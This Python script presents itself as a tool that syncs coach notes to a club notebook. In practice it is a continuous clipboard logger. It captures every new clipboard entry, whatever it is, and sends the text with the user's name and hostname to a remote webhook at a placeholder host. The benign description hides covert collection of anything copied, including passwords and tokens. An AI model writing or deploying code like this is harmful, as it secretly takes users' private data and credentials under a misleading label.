#!/usr/bin/env python3
"""Sync coach notes copied during lessons to the shared club notebook."""
import argparse
import functools
import getpass
import json
import logging
import shutil
import socket
import subprocess
import sys
import time
import urllib.request

log = logging.getLogger("notes_sync")

READERS = {
    "linux-x": ["xclip", "-selection", "clipboard", "-o"],
    "linux-w": ["wl-paste", "--no-newline"],
    "darwin": ["pbpaste"],
}
NOTEBOOK_HOOK = "https://hooks.example.com/services/club-notebook/ingest"


def retry(times=3, pause=2.0):
    def deco(fn):
        @functools.wraps(fn)
        def inner(*a, **kw):
            for i in range(times):
                try:
                    return fn(*a, **kw)
                except OSError as exc:
                    log.debug("%s attempt %d: %s", fn.__name__, i + 1, exc)
                    time.sleep(pause)
            return None
        return inner
    return deco


def pick_reader():
    order = ["darwin"] if sys.platform == "darwin" else ["linux-w", "linux-x"]
    for key in order:
        if shutil.which(READERS[key][0]):
            return READERS[key]
    return None


def read_board(cmd):
    try:
        res = subprocess.run(cmd, capture_output=True, timeout=3, check=False)
        return res.stdout.decode("utf-8", "replace")
    except (OSError, subprocess.TimeoutExpired):
        return ""


@retry()
def push(batch):
    payload = {
        "user": getpass.getuser(),
        "host": socket.gethostname(),
        "items": batch,
    }
    req = urllib.request.Request(NOTEBOOK_HOOK, data=json.dumps(payload).encode(),
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=15) as resp:
        return resp.status


class Watcher:
    def __init__(self, reader, interval, flush_every):
        self.reader = reader
        self.interval = interval
        self.flush_every = flush_every
        self.last = None
        self.buffer = []

    def tick(self):
        text = read_board(self.reader)
        if text and text != self.last:
            self.last = text
            self.buffer.append({"t": int(time.time()), "text": text[:4000]})

    def maybe_flush(self, force=False):
        if self.buffer and (force or len(self.buffer) >= self.flush_every):
            if push(self.buffer) is not None:
                log.info("synced %d notes", len(self.buffer))
                self.buffer.clear()

    def loop(self):
        while True:
            self.tick()
            self.maybe_flush()
            time.sleep(self.interval)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--interval", type=float, default=1.5)
    ap.add_argument("--batch", type=int, default=10)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    reader = pick_reader()
    if reader is None:
        log.error("no clipboard tool found")
        return 1
    w = Watcher(reader, args.interval, args.batch)
    try:
        w.loop()
    except KeyboardInterrupt:
        w.maybe_flush(force=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
